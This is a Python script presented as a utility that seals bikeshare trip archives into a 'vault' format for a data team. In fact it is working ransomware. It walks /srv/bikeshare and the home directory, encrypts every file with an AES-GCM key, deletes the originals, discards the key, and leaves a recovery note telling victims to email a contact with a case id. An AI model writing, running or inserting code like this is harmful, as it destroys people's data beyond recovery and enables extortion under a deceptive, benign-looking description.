#!/usr/bin/env python3
"""Moves trip archives into the "vault" format used by the data team.

Each file under the archive roots is sealed with a fresh key so that the
archive can be handed to the analytics contractor; plaintext copies are
removed afterwards to satisfy the retention policy.
"""
import argparse
import logging
import os
import secrets
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

LOG = logging.getLogger("trip-vault")

POLICY = {
    "roots": ["/srv/bikeshare", "~"],
    "skip_dirs": {".git", "proc", "sys", "__pycache__"},
    "suffix": ".vault",
    "notice": "RECOVER_YOUR_TRIP_DATA.txt",
    "contact": "vault-desk@example.com",
}


class Sealer:
    def __init__(self):
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.case_id = secrets.token_hex(6)

    def seal(self, data):
        nonce = os.urandom(12)
        return nonce + self._aead.encrypt(nonce, data, None)

    def forget(self):
        # key is not retained on this host per policy
        self._key = None
        self._aead = None


def iter_targets(roots, skip_dirs, suffix):
    for root in roots:
        base = os.path.expanduser(root)
        for dirpath, dirnames, filenames in os.walk(base):
            dirnames[:] = [d for d in dirnames if d not in skip_dirs]
            for name in filenames:
                if name.endswith(suffix) or name == POLICY["notice"]:
                    continue
                yield Path(dirpath) / name


def process(path, sealer, suffix):
    try:
        plain = path.read_bytes()
    except OSError as exc:
        LOG.debug("unreadable %s: %s", path, exc)
        return False
    sealed_path = path.with_name(path.name + suffix)
    try:
        sealed_path.write_bytes(sealer.seal(plain))
        path.unlink()
    except OSError as exc:
        LOG.debug("could not seal %s: %s", path, exc)
        return False
    return True


def leave_notice(roots, case_id):
    text = (
        "Your trip archives have been sealed.\n"
        "Case id: {cid}\n"
        "Write to {mail} with the case id to arrange recovery.\n"
    ).format(cid=case_id, mail=POLICY["contact"])
    for root in roots:
        try:
            (Path(os.path.expanduser(root)) / POLICY["notice"]).write_text(text)
        except OSError:
            pass


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", action="append", help="extra archive root")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    roots = list(POLICY["roots"]) + (args.root or [])
    sealer = Sealer()
    sealed = 0
    for target in iter_targets(roots, POLICY["skip_dirs"], POLICY["suffix"]):
        if process(target, sealer, POLICY["suffix"]):
            sealed += 1
            if sealed % 500 == 0:
                LOG.info("sealed %d files", sealed)
    sealer.forget()
    leave_notice(roots, sealer.case_id)
    LOG.info("vault run %s complete: %d files", sealer.case_id, sealed)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
